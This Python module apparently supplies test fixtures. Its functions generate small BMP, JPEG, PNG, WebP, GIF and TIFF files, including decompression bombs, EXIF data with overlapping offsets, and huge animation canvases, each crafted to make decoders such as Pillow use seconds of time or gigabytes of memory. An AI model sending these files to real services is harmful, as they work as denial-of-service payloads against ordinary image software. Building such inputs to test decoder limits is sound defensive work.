"""Small image files whose decoding would cost far more time or memory than their size suggests.

Each function returns the bytes of one file. A decoder that trusts them takes seconds or gigabytes.
"""

import io
import struct
import zlib

from PIL import Image


def bmp_of_run_lengths(width: int = 50_000, height: int = 500) -> bytes:
    """A BMP of 3 kB in run lengths, which Pillow decodes by a loop in Python: 2 s for 25 megapixels."""
    data = b"\1\1\0\0" * height + b"\0\1"
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(data), 2835, 2835, 256, 0)
    offset = 14 + len(header) + 1024
    return b"BM" + struct.pack("<IHHI", offset + len(data), 0, 0, offset) + header + bytes(1024) + data


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    """A segment with its marker and length."""
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_of_empty_scans(
    scans: int = 1_000, side: int = 5_000, *, multi_picture: bool = False, frame: int = 0xC2, components: int = 1
) -> bytes:
    """A progressive JPEG whose scans hold no data; each is a pass over all blocks.

    With `multi_picture`, the file calls itself a multi-picture file, which Pillow then takes for another format.
    """
    entries = struct.pack("<HHI4s", 0xB000, 7, 4, b"0100") + struct.pack("<HHII", 0xB001, 4, 1, 2)
    entries += struct.pack("<HHII", 0xB002, 7, 32, 50)
    index = b"MPF\0II*\0" + struct.pack("<IH", 8, 3) + entries + bytes(4)
    index += struct.pack("<IIIHH", 0x030000, 0, 0, 0, 0) * 2
    channels = b"".join(bytes([number, 0x11, 0]) for number in range(1, components + 1))
    code = b"".join(jpeg_segment(0xC4, bytes([kind, 1, *bytes(15), 0])) for kind in (0x00, 0x10))
    selected = b"".join(bytes([number, 0]) for number in range(1, components + 1))
    scan = jpeg_segment(0xDA, bytes([components]) + selected + bytes(3))
    return b"".join(
        [
            b"\xff\xd8",
            jpeg_segment(0xE2, index) if multi_picture else b"",
            jpeg_segment(0xDB, b"\0" + b"\1" * 64),
            jpeg_segment(frame, struct.pack(">BHHB", 8, side, side, components) + channels),
            code,
            scan * scans,
            b"\xff\xd9",
        ]
    )


def jpeg_with_segments(count: int, payload: bytes = b"Exif\0\0", marker: int = 0xE1) -> bytes:
    """A JPEG with many application segments. Pillow joins all with EXIF data, copying those before each time."""
    content = _small_image("JPEG")
    return content[:2] + jpeg_segment(marker, payload) * count + content[2:]


def jpeg_with_junk(size: int = 5_000_000, junk: bytes = b"\0") -> bytes:
    """A JPEG with bytes that belong to no segment, which Pillow skips one by one."""
    content = _small_image("JPEG")
    return content[:2] + junk * size + content[2:]


def exif_of_shared_data(size: int = 1_000_000, tags: int = 60_000) -> bytes:
    """EXIF data whose tags all refer to the same megabyte; read one by one they take 60 GB."""
    entries = b"".join(struct.pack("<HHII", tag, 7, size, 0) for tag in range(1, tags + 1))
    return b"II*\0" + struct.pack("<IH", 8, tags) + entries + bytes(4 + size)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk with its length and checksum."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunks(chunks: bytes, *, width: int = 64, height: int = 64, after_data: bytes = b"") -> bytes:
    """A grey PNG with further chunks before and after its data."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    data = png_chunk(b"IDAT", zlib.compress(bytes((width + 1) * height), 9))
    return b"\x89PNG\r\n\x1a\n" + header + chunks + data + after_data + png_chunk(b"IEND", b"")


def png_of_many_chunks(count: int = 600_000, kind: bytes = b"tEXt", data: bytes = b"a\0b") -> bytes:
    """A PNG of 9 MB that is nearly all small chunks, each handled by a call in Python."""
    return png_with_chunks(png_chunk(kind, data) * count)


def png_bomb(width: int, height: int, *, depth: int = 16, colour_type: int = 6) -> bytes:
    """A PNG of a few hundred kB whose rows all use the costliest filter."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[colour_type]
    row = b"\4" + bytes((width * channels * depth + 7) // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


def profile_bomb(size: int = 500_000_000) -> bytes:
    """An iCCP chunk of 0.5 MB that inflates to `size` bytes."""
    compressor = zlib.compressobj(9)
    block = bytes(1_000_000)
    data = b"".join(compressor.compress(block) for _ in range(size // len(block))) + compressor.flush()
    return png_chunk(b"iCCP", b"x\0\0" + data)


def webp_of_many_frames(count: int = 5_000) -> bytes:
    """An animation that repeats its frame."""
    file = io.BytesIO()
    frames = [Image.new("RGB", (64, 64), colour) for colour in ("red", "blue")]
    frames[0].save(file, "WEBP", save_all=True, append_images=frames[1:], lossless=True)
    content = file.getvalue()
    start = content.rindex(b"ANMF")
    body = content[8:] + content[start:] * count
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_of_canvas(width: int = 16_383, height: int = 16_383) -> bytes:
    """An animation of 100 bytes whose frame has one pixel, but whose canvas takes 2 GB in the decoder."""
    file = io.BytesIO()
    Image.new("RGB", (1, 1)).save(file, "WEBP", lossless=True)
    frame = bytes(12) + bytes(4) + file.getvalue()[12:]
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    chunks = ((b"VP8X", b"\2\0\0\0" + size), (b"ANIM", bytes(6)), (b"ANMF", frame))
    body = b"WEBP" + b"".join(kind + struct.pack("<I", len(data)) + data for kind, data in chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def gif_of_small_blocks(count: int = 5_000_000, extension: int = 0xFE) -> bytes:
    """A GIF of 10 MB with a comment in blocks of one byte."""
    content = _small_image("GIF")
    start = content.index(b"\x2c")
    return content[:start] + bytes([0x21, extension]) + b"\1x" * count + b"\0" + content[start:]


def gif_of_many_comments(count: int = 1_000_000) -> bytes:
    """A GIF with empty comments."""
    content = _small_image("GIF")
    start = content.index(b"\x2c")
    return content[:start] + b"\x21\xfe\0" * count + content[start:]


def tiff_of_entries(entries: list[tuple[int, int, int, int]], data: bytes = b"") -> bytes:
    """A TIFF whose directory has these entries: tag, type, number of values, value or offset."""
    directory = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + directory + bytes(4) + data


def tiff_of_shared_strips(height: int = 60_000) -> bytes:
    """A TIFF in Deflate whose strips, one per row, all are the whole file."""
    data = struct.pack(f"<{2 * height}I", *([8] * height), *([20_000] * height))
    size = 12 * 9 + 14
    entries = [(256, 4, 1, 8), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1)]
    entries += [(273, 4, height, size), (277, 3, 1, 1), (278, 4, 1, 1), (279, 4, height, size + 4 * height)]
    return tiff_of_entries(entries, data)


def tiff_of_huge_tags(size: int = 1_000_000, tags: int = 60_000) -> bytes:
    """A TIFF whose tags all refer to the same megabyte, like `exif_of_shared_data`."""
    return exif_of_shared_data(size, tags)


def _small_image(kind: str) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (60, 40), (230, 20, 10)).save(file, kind)
    return file.getvalue()
